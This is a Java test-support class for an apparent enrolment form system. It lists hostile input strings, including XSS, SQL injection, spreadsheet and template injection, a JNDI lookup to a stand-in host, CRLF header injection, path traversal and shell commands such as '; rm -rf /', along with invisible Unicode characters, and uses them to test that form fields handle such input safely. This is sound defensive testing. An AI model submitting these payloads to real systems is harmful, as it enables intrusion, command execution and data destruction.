package org.toroku.paper;

import java.util.List;
import java.util.Optional;
import org.toroku.enrolment.ApplicationForm;

/** Texts that mean something else to a page, a sheet, a shell, a template or a header than to a reader. */
final class HostileText {
    /** Printable, so they are taken as what they are and must stay it everywhere. */
    static final List<String> INERT = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "</textarea><b>x</b>",
            "<!--#exec cmd=\"id\"-->",
            "javascript:alert(1)",
            "'; DROP TABLE application; --",
            "' OR '1'='1",
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(A1:A9)",
            "=HYPERLINK(\"http://e.example\")",
            "=cmd|' /C calc'!A0",
            "${1+1}",
            "#{1+1}",
            "%{1+1}",
            "{{1+1}}",
            "<%= 1+1 %>",
            "${jndi:ldap://e.example/a}",
            "T(java.lang.Runtime)",
            "{0}{name}{document}",
            "'{0}'",
            "%s%n%x",
            "%0d%0aBcc: e@e.example",
            "\\r\\nBcc: e@e.example",
            "&lt;b&gt;&amp;&#x27;",
            "../../../etc/passwd",
            "C:\\Windows\\win.ini",
            "; rm -rf /",
            "`id`$(id)",
            "https://e.example/?a=1&b=2",
            "【重要事項の確認",
            "[確認しました / confirmed] 偽",
            "(Tj) ET Q endstream endobj",
            "\uD842\uDFB7野家 𩸽");

    /** Nothing of this kind belongs into any field; a field says so and keeps nothing. */
    static final List<String> UNPRINTABLE = List.of(
            "a\r\nBcc: e@e.example",
            "a\nSubject: x",
            "a\rb",
            "a\u0000b",
            "a\u001B[31mb",
            "a\u0007b",
            "a\u0085b",
            "a\u2028b",
            "a\u2029b",
            "a\u202Eb",
            "a\u2066b",
            "a\u200Bb",
            "a\uFEFFb",
            "a\uD83Db",
            "a\uDE00b",
            "a\uE000b",
            "a\uFFFFb",
            "a\u009Fb",
            "a\u3164b",
            "a\u115Fb",
            "a\uFFA0b",
            "a\u034Fb",
            "a\u17B4b");

    private HostileText() {}

    /** The plain form with a text where text is free. */
    static ApplicationForm form(String address) {
        ApplicationForm plain = PaperHouse.form();
        return form(plain.familyName(), plain.givenName(), plain.formerName(), address);
    }

    /** The plain form with these texts in names and address. */
    static ApplicationForm form(String family, String given, Optional<String> former, String address) {
        ApplicationForm plain = PaperHouse.form();
        return new ApplicationForm(
                family,
                given,
                plain.familyNameKana(),
                plain.givenNameKana(),
                plain.familyNameRomaji(),
                plain.givenNameRomaji(),
                former,
                plain.birthDate(),
                plain.sex(),
                plain.postalCode(),
                address,
                plain.email(),
                plain.phone(),
                plain.operator());
    }
}
